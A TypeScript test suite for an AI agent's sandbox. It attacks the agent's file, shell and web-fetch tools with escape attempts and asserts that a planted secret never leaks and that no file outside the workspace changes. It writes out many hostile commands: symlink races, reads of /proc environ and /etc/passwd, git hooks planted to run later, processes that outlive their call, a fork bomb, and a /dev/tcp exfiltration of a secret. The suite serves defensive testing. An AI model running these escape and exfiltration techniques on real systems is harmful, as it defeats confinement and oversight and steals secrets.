// The escape suite: the agent's tools attacked the way a model would call them
// (registry.execute on the default confined environment), once inside
// bubblewrap and once without an OS sandbox. Every case plants a secret file
// and a secret environment variable outside the workspace and asserts that
// nothing escaped: the secret is in no tool output, and no file outside the
// workspace was created, changed or deleted. Without bubblewrap the bwrap
// cases are ignored under a name that says so; there, a refused shell counts
// as refused.
import assert from "node:assert/strict";
import { join } from "node:path";
import { ConfinedEnvironment, type ConfinedEnvironmentOptions } from "./confined.ts";
import { usableBwrap } from "./bwrap.ts";
import { DefaultToolRegistry } from "../tools/registry.ts";
import { coreTools } from "../tools/core.ts";
import { webFetchTool } from "../tools/web_fetch.ts";
import { ScopedEnvironment } from "../session/scoped_env.ts";
import type { ExecutionEnvironment } from "./types.ts";

const SECRET = `s3cr3t-${crypto.randomUUID()}`;
const SECRET_VAR = "FORGE_ESCAPE_TEST_SECRET";
Deno.env.set(SECRET_VAR, SECRET);
const hasBwrap = (await usableBwrap()) !== undefined;

type Mode = "bwrap" | "none";

interface Attack {
  /** Parent of the workspace; holds secret.txt and keep/ (must not change). */
  readonly outside: string;
  readonly ws: string;
  readonly secretFile: string;
  readonly env: ExecutionEnvironment;
  readonly mode: Mode;
  /** Runs a tool as a model would; records its output. */
  tool(name: string, args: Record<string, unknown>, env?: ExecutionEnvironment): Promise<string>;
  shell(command: string, timeoutMs?: number): Promise<string>;
}

interface Case {
  readonly name: string;
  /** Done by the outside world before the session starts (planting links). */
  readonly plant?: (t: { outside: string; ws: string; secretFile: string }) => Promise<void>;
  readonly options?: Partial<ConfinedEnvironmentOptions>;
  readonly attack: (t: Attack) => Promise<void>;
  /** Why the case cannot run in `mode` here, if it cannot. */
  readonly notHere?: (mode: Mode) => string | undefined;
}

/** Every file under `dir` (not following links) with its content, except under `skip`. */
async function snapshot(dir: string, skip: string): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  const visit = async (d: string) => {
    for await (const entry of Deno.readDir(d)) {
      const path = join(d, entry.name);
      if (path === skip) continue;
      const info = await Deno.lstat(path);
      if (info.isDirectory) {
        out.set(path, "dir");
        await visit(path);
      } else if (info.isSymlink) out.set(path, `link:${await Deno.readLink(path)}`);
      else out.set(path, `${info.mode}:${await Deno.readTextFile(path)}`);
    }
  };
  await visit(dir);
  return out;
}

function register(c: Case, mode: Mode): void {
  const reason = mode === "bwrap" && !hasBwrap
    ? "needs bwrap: not run, bubblewrap is unusable here"
    : c.notHere?.(mode);
  const ignore = reason !== undefined;
  Deno.test({
    name: `escape [${mode}] ${c.name}${reason ? ` (${reason})` : ""}`,
    ignore,
    async fn() {
      const outside = await Deno.realPath(await Deno.makeTempDir({ prefix: "forge-escape-" }));
      const ws = join(outside, "ws");
      await Deno.mkdir(join(ws, "sub"), { recursive: true });
      await Deno.mkdir(join(outside, "keep"));
      const secretFile = join(outside, "secret.txt");
      await Deno.writeTextFile(secretFile, `${SECRET}\n`);
      await Deno.writeTextFile(join(outside, "keep", "data.txt"), "unchanged\n");
      await Deno.writeTextFile(join(ws, "inside.txt"), "inside\n");
      await c.plant?.({ outside, ws, secretFile });
      const before = await snapshot(outside, ws);
      const env = new ConfinedEnvironment({
        workspace: ws,
        sandbox: mode,
        killGraceMs: 200,
        ...c.options,
      });
      const outputs: string[] = [];
      try {
        await env.initialize();
        const registry = new DefaultToolRegistry([
          ...coreTools({ applyPatch: true }),
          webFetchTool(),
        ]);
        const tool = async (
          name: string,
          args: Record<string, unknown>,
          on: ExecutionEnvironment = env,
        ) => {
          const result = await registry.execute(
            { name, arguments: args },
            { env: on, signal: new AbortController().signal, settings: { commandEnv: {} } },
          );
          outputs.push(result.fullContent ?? result.content);
          return result.fullContent ?? result.content;
        };
        const attack: Attack = {
          outside,
          ws,
          secretFile,
          env,
          mode,
          tool,
          shell: async (command, timeoutMs = 10_000) => {
            const out = await tool("shell", { command, timeout_ms: timeoutMs });
            if (mode === "none") assert.match(out, /no OS sandbox/, "the shell must be refused");
            return out;
          },
        };
        await c.attack(attack);
      } finally {
        await env.close();
      }
      // Give anything that might have survived its call a moment to act.
      await new Promise((r) => setTimeout(r, 300));
      for (const out of outputs) {
        assert.ok(!out.includes(SECRET), `the secret reached a tool output:\n${out.slice(0, 500)}`);
      }
      const after = await snapshot(outside, ws);
      assert.deepEqual(
        after,
        before,
        "a file outside the workspace was created, changed or deleted",
      );
      await Deno.remove(outside, { recursive: true });
    },
  });
}

const cases: Case[] = [
  // 1. Check, then use.
  {
    name: "check-then-use: a concurrent shell swaps a file for a link while read_file reads it",
    async attack(t) {
      await t.tool("write_file", { file_path: "x", content: "plain" });
      const swapper = t.shell(
        `for i in $(seq 400); do ln -sfn ${t.secretFile} x.new; mv -T x.new x; echo plain > x.f; mv x.f x; done`,
        20_000,
      );
      for (let i = 0; i < 60; i++) await t.tool("read_file", { file_path: "x" });
      await swapper;
    },
  },
  {
    name: "check-then-use: grep and write_file race a link swap in a directory",
    async attack(t) {
      const swapper = t.shell(
        `for i in $(seq 300); do rm -rf d; mkdir d; echo a > d/f; rm -rf d; ln -sfn ${t.outside} d; done`,
        20_000,
      );
      for (let i = 0; i < 40; i++) {
        await t.tool("grep", { pattern: "s3cr3t", path: "." });
        await t.tool("write_file", { file_path: "d/keep/data.txt", content: "overwritten" });
      }
      await swapper;
    },
  },
  {
    name: "links planted outside-in: read, write, edit and grep through a symlink to the secret",
    async plant({ ws, secretFile, outside }) {
      await Deno.symlink(secretFile, join(ws, "link"));
      await Deno.symlink(outside, join(ws, "up"));
    },
    async attack(t) {
      await t.tool("read_file", { file_path: "link" });
      await t.tool("read_file", { file_path: "up/secret.txt" });
      await t.tool("grep", { pattern: ".", path: "up" });
      await t.tool("glob", { pattern: "**/*", path: "up" });
      await t.tool("write_file", { file_path: "up/keep/data.txt", content: "x" });
      await t.tool("edit_file", { file_path: "link", old_string: "s", new_string: "x" });
      await t.tool("write_file", { file_path: "up/new.txt", content: "x" });
      await t.tool("read_file", { file_path: t.secretFile });
      await t.tool("read_file", { file_path: "../secret.txt" });
    },
  },
  // 2. Hard links.
  {
    name: "hard link to the secret planted in the workspace: file tools and shell",
    async plant({ ws, secretFile }) {
      await Deno.link(secretFile, join(ws, "hard.txt"));
    },
    async attack(t) {
      await t.tool("read_file", { file_path: "hard.txt" });
      await t.tool("grep", { pattern: "s3cr3t", path: "." });
      await t.tool("edit_file", { file_path: "hard.txt", old_string: "s3", new_string: "xx" });
      await t.shell("cat hard.txt; cp hard.txt copy.txt; cat copy.txt; echo more >> hard.txt");
      await t.tool("read_file", { file_path: "copy.txt" });
      // Writing replaces the name with a new file; the other name keeps its content.
      await t.tool("write_file", { file_path: "hard.txt", content: "replaced" });
    },
  },
  {
    name: "hard links made inside the sandbox cannot reach outside",
    async attack(t) {
      await t.shell(`ln ${t.secretFile} h 2>&1; ln /proc/self/environ e 2>&1; cat h e`);
      await t.tool("read_file", { file_path: "h" });
    },
  },
  // 3. Shell state, program options, option spellings, `..` after links, cp + mv.
  {
    name: "builtins that change shell state (BASH_CMDS, HOME, CDPATH, OLDPWD, cd)",
    async attack(t) {
      await t.shell(`printf -v 'BASH_CMDS[ls]' /bin/cat; ls ${t.secretFile}`);
      await t.shell(`HOME=${t.outside}; cd; cat secret.txt; cd ${t.outside} && cat secret.txt`);
      await t.shell(`CDPATH=${t.outside}; cd keep && echo x > data.txt; cd ..; cat secret.txt`);
      await t.shell(`OLDPWD=${t.outside}; cd -; cat secret.txt; cd ..; cd ..; cat */secret.txt`);
    },
  },
  {
    name: "program options that run programs or read lists of files",
    async attack(t) {
      await t.shell(
        `printf 'b\\na\\n' > in; sort --compress-program=sh -S 1 in; sort --compress-p=cat in`,
      );
      await t.shell(
        `printf '${t.secretFile}\\0' > list; wc --files0-from=list; du --files0-from=list`,
      );
      await t.shell(`find . -files0-from list; find ${t.outside} -name secret.txt -exec cat {} +`);
      await t.shell(`file -m ${t.secretFile} in; file -f list; find ${t.outside}/keep -delete`);
      await t.shell(`tar -cf - --files-from=list | cat; xargs -a list cat`);
    },
  },
  {
    name: "abbreviated long options and arguments starting with -",
    async attack(t) {
      await t.shell(`grep --recurs s3cr3t ${t.outside}; grep --dereference-r s3cr3t .. 2>&1`);
      await t.shell(
        `cat -- ${t.secretFile}; cat -../secret.txt; cp -- ${t.secretFile} ./-x; cat ./-x`,
      );
      await t.shell(`sed -n p -- ${t.secretFile}; head --lines=5 -- ${t.secretFile}`);
    },
  },
  {
    name: "`..` after a symlink, resolved by the kernel rather than as text",
    async attack(t) {
      await t.shell(
        `mkdir -p a/b; ln -s a/b l; ln -s / root; cat l/../../../secret.txt; cat root${t.secretFile}`,
      );
      await t.tool("read_file", { file_path: "l/../../../secret.txt" });
      await t.tool("read_file", { file_path: `root${t.secretFile}` });
    },
  },
  {
    name: "links copied up a level with cp -P / cp -s and mv, then used by a scoped subagent",
    async attack(t) {
      await t.shell(
        `cd sub && ln -s ../../secret.txt s && cp -P s ../s2 && cp -s ${t.secretFile} ../s3; mv s ..`,
      );
      const scoped = new ScopedEnvironment(t.env, "sub");
      await t.tool("read_file", { file_path: "../s2" }, scoped);
      await t.tool("read_file", { file_path: "../s3" }, scoped);
      await t.tool("read_file", { file_path: "../s" }, scoped);
      await t.tool("shell", { command: "cat ../s ../s2 ../s3; cd .. && cat s s2 s3" }, scoped);
    },
  },
  {
    name: ".git stays read-only: a hook or config written now would run later, outside",
    async plant({ ws }) {
      await Deno.mkdir(join(ws, ".git", "hooks"), { recursive: true });
      await Deno.writeTextFile(join(ws, ".git", "config"), "[core]\n");
    },
    async attack(t) {
      await t.tool("write_file", {
        file_path: ".git/hooks/pre-commit",
        content: "#!/bin/sh\nid\n",
      });
      await t.tool("edit_file", {
        file_path: ".git/config",
        old_string: "[core]",
        new_string: "[core]\n\thooksPath = /tmp",
      });
      await t.shell(
        "echo 'cat /etc/passwd' > .git/hooks/post-checkout; chmod +x .git/hooks/*; echo '[alias]' >> .git/config; rm -rf .git; mv .git g",
      );
      assert.equal(await exists(join(t.ws, ".git", "hooks", "pre-commit")), false);
      assert.equal(await exists(join(t.ws, ".git", "hooks", "post-checkout")), false);
      assert.equal(await Deno.readTextFile(join(t.ws, ".git", "config")), "[core]\n");
    },
  },
  // 4. Lifetime.
  {
    name: "a setsid'd grandchild does not outlive its call",
    async attack(t) {
      await t.shell(
        `setsid sh -c 'sleep 0.5; echo late > ${t.ws}/late.txt' > /dev/null 2>&1 & echo started`,
      );
      await t.shell(
        `(setsid nohup sh -c 'sleep 0.5; echo late > ${t.ws}/late2.txt' &) ; sleep 5`,
        300,
      );
      await new Promise((r) => setTimeout(r, 1200));
      if (t.mode === "bwrap") {
        assert.equal(await exists(join(t.ws, "late.txt")), false, "a survivor wrote late.txt");
        assert.equal(await exists(join(t.ws, "late2.txt")), false, "a survivor wrote late2.txt");
      }
    },
  },
  // 5. Limits.
  {
    name: "disk flood stops at the file size limit with a clear error",
    options: { limits: { maxFileBytes: 1 << 20 } },
    async attack(t) {
      const out = await t.shell("head -c 50000000 /dev/zero > big; echo done");
      if (t.mode === "bwrap") {
        assert.match(out, /limit reached \(file_size\)/);
        assert.ok((await Deno.stat(join(t.ws, "big"))).size <= 1 << 20);
      }
    },
  },
  {
    name: "output flood is kept within the output limit with a clear error",
    options: { limits: { maxOutputBytes: 64 * 1024 } },
    async attack(t) {
      const out = await t.shell("head -c 20000000 /dev/zero | tr '\\0' y");
      if (t.mode === "bwrap") {
        assert.match(out, /limit reached \(output\)/);
        assert.ok(out.length < 200 * 1024, `kept ${out.length} chars`);
      }
    },
  },
  {
    name: "a fork bomb stops at the process limit with a clear error",
    options: { limits: { maxProcesses: 64 } },
    // RLIMIT_NPROC does not bind root: as root the bomb would run unbounded until its timeout.
    notHere: (mode) =>
      mode === "bwrap" && Deno.uid() === 0
        ? "needs a non-root user: not run, RLIMIT_NPROC does not bind root"
        : undefined,
    async attack(t) {
      const out = await t.shell("bomb() { bomb | bomb & }; bomb; sleep 2; echo survived", 4000);
      if (t.mode === "bwrap") assert.match(out, /limit reached \(processes\)/);
    },
  },
  {
    name: "a command past its time limit is killed with everything it started",
    async attack(t) {
      // A name of its own, so processes of other tests on this machine are not mistaken for ours.
      const marker = `forge-escape-${crypto.randomUUID().slice(0, 8)}`;
      const out = await t.shell(
        `(exec -a ${marker} sleep 30) & setsid bash -c 'exec -a ${marker} sleep 30' & ` +
          `echo x > ${t.ws}/t.txt; wait`,
        400,
      );
      if (t.mode === "bwrap") {
        assert.match(out, /timed out/);
        const ps = await new Deno.Command("pgrep", { args: ["-f", marker] }).output();
        assert.equal(new TextDecoder().decode(ps.stdout).trim(), "", "a sleeper survived");
      }
    },
  },
  // Environment secrets and the host's processes.
  {
    name: "environment secrets: env, /proc/*/environ, the parent's environment",
    async attack(t) {
      await t.shell(`env; cat /proc/self/environ; cat /proc/1/environ; cat /proc/$PPID/environ`);
      await t.shell(
        `for p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null; done | tr '\\0' '\\n'`,
      );
      await t.shell(`ls /proc/*/root/ 2>&1; cat /proc/1/root${t.secretFile} 2>&1`);
      await t.tool("read_file", { file_path: "/proc/self/environ" });
    },
  },
  {
    name: "the host filesystem is not there: home, /etc, the agent's files",
    async attack(t) {
      await t.shell(
        `ls / /etc /home /root 2>&1; cat /etc/passwd /etc/hostname 2>&1; ls ${t.outside}`,
      );
      await t.shell(
        `echo x > ${t.outside}/keep/data.txt; touch ${t.outside}/new; rm -rf ${t.outside}/keep`,
      );
      await t.shell(`mount -t tmpfs none /mnt 2>&1; unshare -r cat ${t.secretFile} 2>&1`);
    },
  },
  // Network.
  {
    name: "no network inside the sandbox: a loopback listener outside hears nothing",
    async attack(t) {
      const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
      const port = (listener.addr as Deno.NetAddr).port;
      let accepted = false;
      const accepting = (async () => {
        for await (const conn of listener) {
          accepted = true;
          conn.close();
        }
      })();
      await t.shell(
        `echo ${"$"}${SECRET_VAR} > /dev/tcp/127.0.0.1/${port} 2>&1; cat /etc/hosts 2>&1`,
      );
      listener.close();
      await accepting.catch(() => {});
      assert.equal(accepted, false, "the sandbox reached a loopback listener");
    },
  },
  {
    name: "web_fetch: a disallowed host and a redirect to one are refused",
    async attack(t) {
      await using target = Deno.serve(
        { hostname: "127.0.0.1", port: 0, onListen() {} },
        () => new Response(SECRET),
      );
      await using redirector = Deno.serve(
        { hostname: "127.0.0.1", port: 0, onListen() {} },
        () => Response.redirect(`http://localhost:${target.addr.port}/`, 302),
      );
      const env = new ConfinedEnvironment({
        workspace: t.ws,
        sandbox: t.mode,
        allowedHosts: [`127.0.0.1:${redirector.addr.port}`],
      });
      await env.initialize();
      try {
        const direct = await t.tool(
          "web_fetch",
          { url: `http://127.0.0.1:${target.addr.port}/` },
          env,
        );
        assert.match(direct, /not allowed/);
        const redirected = await t.tool("web_fetch", {
          url: `http://127.0.0.1:${redirector.addr.port}/`,
        }, env);
        assert.match(redirected, /redirect from 127\.0\.0\.1.*not allowed/);
      } finally {
        await env.close();
      }
    },
  },
];

async function exists(path: string): Promise<boolean> {
  try {
    await Deno.lstat(path);
    return true;
  } catch {
    return false;
  }
}

for (const c of cases) {
  register(c, "bwrap");
  register(c, "none");
}
